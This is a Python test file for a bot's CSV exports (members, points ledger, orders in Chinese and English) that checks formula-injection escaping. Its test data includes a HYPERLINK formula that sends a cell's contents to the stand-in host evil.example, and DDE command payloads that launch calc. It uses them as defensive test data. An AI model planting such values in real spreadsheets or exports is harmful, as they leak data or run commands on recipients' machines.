"""CSV cells a spreadsheet never runs: the rule, and the exports written on a real database."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from models import Member
from services.clock import Clock
from services.csvcells import SafeWriter, safe_cell
from services.export_columns import export_name, file_name, headers
from services.exports import ENCODING, ExportKind, export_query, write_csv
from services.order_files import OrderLine, OrderStatus
from services.order_rules import OrderRules
from services.orders import OrderService, Source
from services.points import PointsService
from tests.support.untranslated import untranslated
from tests.unit.conftest import GROUP

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("小明", "小明"),
        ("a=1", "a=1"),
        (" =1", " =1"),  # not a formula start: OWASP's list, no more
        ("", ""),
        ("-5", "-5"),  # a plain number is read as that number
        ("-0.50", "-0.50"),
        ("12", "12"),
        (-5, -5),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_text_that_could_start_a_formula_is_quoted_and_numbers_are_left(
    value: object, written: object
) -> None:
    assert safe_cell(value) == written


def test_the_writer_quotes_every_cell_of_every_row() -> None:
    out = io.StringIO(newline="")
    writer = SafeWriter(out)
    writer.writerow(["name", "delta"])
    writer.writerows([[HYPERLINK, -5], [DDE, 3]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["name", "delta"], ["'" + HYPERLINK, "-5"], ["'" + DDE, "3"]]


async def test_every_export_writes_a_hostile_name_as_text_and_a_negative_delta_as_a_number(
    session_pool: async_sessionmaker[AsyncSession], chat: int
) -> None:
    async with session_pool() as session, session.begin():
        points = PointsService(session, Clock(), "Asia/Shanghai")
        await points.change(GROUP, 7, 10, reason="admin", key="up", ref=DDE)
        await points.change(GROUP, 7, -5, reason="admin", key="down", ref="@everyone")
        await session.execute(update(Member).values(display_name=HYPERLINK))
    exported: dict[ExportKind, list[dict[str, str]]] = {}
    async with session_pool() as session:
        for kind in (ExportKind.MEMBERS, ExportKind.LEDGER):
            buffer = io.BytesIO()
            out = io.TextIOWrapper(buffer, encoding=ENCODING, newline="")
            await write_csv(session, out, kind, GROUP, "Asia/Shanghai")
            out.flush()
            exported[kind] = list(csv.DictReader(io.StringIO(buffer.getvalue().decode(ENCODING))))
    (member,) = exported[ExportKind.MEMBERS]
    assert (member["name"], member["points"]) == ("'" + HYPERLINK, "5")
    ledger = exported[ExportKind.LEDGER]
    assert [(row["name"], row["delta"], row["ref"]) for row in ledger] == [
        ("'" + HYPERLINK, "10", "'" + DDE),
        ("'" + HYPERLINK, "-5", "'@everyone"),
    ]


async def orders_export(
    session_pool: async_sessionmaker[AsyncSession], language: str
) -> list[list[str]]:
    async with session_pool() as session:
        buffer = io.BytesIO()
        out = io.TextIOWrapper(buffer, encoding=ENCODING, newline="")
        await write_csv(session, out, ExportKind.ORDERS, GROUP, "Asia/Shanghai", language=language)
        out.flush()
    return list(csv.reader(io.StringIO(buffer.getvalue().decode(ENCODING), newline="")))


async def test_the_orders_export_speaks_the_groups_language_and_keeps_a_hostile_title_as_text(
    session_pool: async_sessionmaker[AsyncSession], chat: int
) -> None:
    clock = Clock()
    line = OrderLine(1, "3012345678901234567", "@小明", 19_900, OrderStatus.PAID, None, None,
                     title=HYPERLINK)  # fmt: skip
    async with session_pool() as session, session.begin():
        orders = OrderService(session, clock, PointsService(session, clock))
        await orders.record(GROUP, [line], source=Source.IMPORT, rules=OrderRules(),
                            timezone="Asia/Shanghai")  # fmt: skip
    zh_header, zh_row = await orders_export(session_pool, "zh")
    en_header, en_row = await orders_export(session_pool, "en")
    assert zh_header[:4] + zh_header[7:11] == [
        "订单编号", "付款时间", "宝贝标题", "买家会员名", "实付金额（元）", "退款金额（元）",
        "订单状态", "来源",
    ]  # fmt: skip
    assert en_header[:4] + en_header[7:11] == [
        "order_id", "paid_at", "title", "buyer", "amount", "refunded", "status", "source",
    ]  # fmt: skip
    assert untranslated(",".join(zh_header)) == []
    for row in (zh_row, en_row):
        assert (row[0], row[2], row[3], row[7]) == (
            "3012345678901234567", "'" + HYPERLINK, "'@小明", "199.00",
        )  # fmt: skip
    assert [zh_row[9], zh_row[10], zh_row[12]] == ["已付款", "导入", "等待绑定"]
    assert [en_row[9], en_row[10], en_row[12]] == ["paid", "import", "waiting"]


@pytest.mark.parametrize("kind", list(ExportKind))
def test_every_export_names_its_columns_in_both_languages_and_matches_its_query(
    kind: ExportKind,
) -> None:
    query = export_query(kind, GROUP, None, None, "Asia/Shanghai")
    assert len(headers(kind, "zh")) == len(headers(kind, "en")) == len(query.selected_columns)
    assert untranslated(",".join(headers(kind, "zh")) + export_name(kind, "zh")) == []
    assert file_name(kind, "en", GROUP) == f"{kind.value}-{GROUP}.csv"
